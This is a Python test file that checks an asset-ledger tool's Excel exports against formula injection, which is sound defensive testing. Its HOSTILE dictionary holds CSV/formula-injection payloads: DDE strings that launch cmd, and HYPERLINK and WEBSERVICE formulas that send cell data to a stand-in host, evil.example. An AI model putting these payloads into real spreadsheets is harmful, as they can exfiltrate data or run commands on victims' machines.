"""Issue 14, formula injection: every workbook assetreg writes keeps outside text as text.

Hostile values are planted in a copy of the example compound where outside text enters it —
the bank's 摘要 (allocation narrations), resolution titles, contract and proposal
counterparties, a rejected proposal's reasons, the compound's name — and every writer is
run: the disclosure (`assetreg disclose`), the audit findings (`assetreg audit --xlsx`), the
district report (`assetreg district report --xlsx`) and the import templates. No cell of any
sheet may be a formula, and every text starting the way a formula does carries Excel's quote
prefix (or an apostrophe), so that editing it in Excel or WPS does not make it one.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from assetreg.cli import main
from assetreg.ledger import save_workbook
from importers.templates import write_template

REPO = Path(__file__).resolve().parents[2]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP: what a spreadsheet reads as a formula
EXAMPLE = REPO / "ledgers" / "qjp-jinghu-garden"

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "summary": "+cmd|' /C calc'!A0",
    "counterparty": "@SUM(1+9)*cmd|' /C calc'!A0",
    "reasons": "-2+3+cmd|' /C calc'!A0",
    "rejected_cp": "=1+1",
    "name": "\t=WEBSERVICE(\"http://evil.example\")",
    "use": "\r=2*3",
}
FOLDER = "=jinghu+1"


def _plant(root: Path) -> None:
    contracts = root / "contracts.beancount"
    text = contracts.read_text(encoding="utf-8")
    text = text.replace('title: "关于公共收益分配的决定', f'title: "{_q(HOSTILE["title"])}关于公共收益分配的决定', 1)
    text = text.replace('counterparty: "淮安市梯媒广告有限公司"', f'counterparty: "{_q(HOSTILE["counterparty"])}"')
    contracts.write_text(text, encoding="utf-8")
    journal = root / "journal.beancount"
    text = journal.read_text(encoding="utf-8")
    text = re.sub(r'"划转 (\S+) 补充维修资金 R-2024-02"', lambda m: f'"{_q(HOSTILE["summary"])} {m.group(1)}"', text)
    journal.write_text(text, encoding="utf-8")
    decisions = root / "decisions.beancount"
    text = decisions.read_text(encoding="utf-8")
    head, x2025 = text.split('"X-2025-01"', 1)  # the proposal rejected in 2025H1
    x2025 = x2025.replace('reasons: "', f'reasons: "{_q(HOSTILE["reasons"])}', 1)
    x2025 = x2025.replace('counterparty: "淮安市某物流有限公司"', f'counterparty: "{_q(HOSTILE["rejected_cp"])}"', 1)
    text = head + '"X-2025-01"' + x2025
    decisions.write_text(text, encoding="utf-8")
    with (root / "accounts.beancount").open("a", encoding="utf-8") as f:
        f.write(f'\n2020-01-02 custom "assetreg-option" "compound-name" "{_q(HOSTILE["name"])}"\n')


def _q(s: str) -> str:
    return s.replace("\\", "\\\\").replace('"', '\\"')


def _check(path: Path) -> list[str]:
    """Every cell of every sheet: no formula, formula-like text guarded; returns all texts."""
    wb = load_workbook(path)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}!{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_START):
                        assert cell.quotePrefix, (f"{path.name}!{ws.title}!{cell.coordinate}: {cell.value!r} "
                                                  "is text that Excel re-reads as a formula when edited")
    return texts


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("district") / FOLDER  # a compound's id is its folder's name
    shutil.copytree(EXAMPLE, root, ignore=shutil.ignore_patterns("reports", "sources"))
    _plant(root)
    return root


def _planted_in(texts: list[str], *keys: str) -> None:
    joined = "\n".join(texts)
    for k in keys:
        assert HOSTILE[k].strip() in joined, f"the planted {k} {HOSTILE[k]!r} is not in the workbook"


def test_disclosure_workbook_keeps_text(planted: Path, tmp_path: Path) -> None:
    out = tmp_path / "2025H1.xlsx"
    r = CliRunner().invoke(main, ["disclose", "-L", str(planted), "--period", "2025H1", "-o", str(out),
                                  "--date", "2025-07-25"])
    assert r.exit_code == 0, r.output
    texts = _check(out)
    _planted_in(texts, "title", "summary", "counterparty", "reasons", "rejected_cp", "name")


def test_audit_findings_workbook_keeps_text(planted: Path, tmp_path: Path) -> None:
    out = tmp_path / "audit.xlsx"
    r = CliRunner().invoke(main, ["audit", "-L", str(planted), "--xlsx", str(out), "--as-of", "2026-12-01"])
    assert r.exit_code in (0, 1), r.output
    texts = _check(out)
    assert any(t.startswith(FOLDER) for t in texts)  # the title names the compound


@pytest.mark.slow
def test_district_report_workbook_keeps_text(planted: Path, tmp_path: Path) -> None:
    out = tmp_path / "district.xlsx"
    r = CliRunner().invoke(main, ["district", "report", str(planted.parent), "--store", str(tmp_path / "store"),
                                  "--xlsx", str(out), "-j", "1", "--as-of", "2026-12-01"])
    assert r.exit_code == 0, r.output
    texts = _check(out)
    assert any(t.lstrip("'").startswith(FOLDER) for t in texts) or any(HOSTILE["name"].strip() in t for t in texts)


@pytest.mark.parametrize("kind", ["bank", "income-report", "register", "roster", "contracts", "consents",
                                  "waitlist"])
def test_templates_keep_text(kind: str, tmp_path: Path) -> None:
    out = write_template(kind, tmp_path / f"{kind}.xlsx", uses=[HOSTILE["use"], "=1+2", "parking-owner"])
    _check(out)


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1+2", "@A1", "\t=1", "\r=1", "=", "-"])
def test_save_workbook_neutralises_every_formula_start(value: str, tmp_path: Path) -> None:
    wb = Workbook()
    wb.active["A1"] = value
    wb.create_sheet("二")["C3"] = value
    save_workbook(wb, tmp_path / "x.xlsx")
    texts = _check(tmp_path / "x.xlsx")
    assert texts == [value, value]
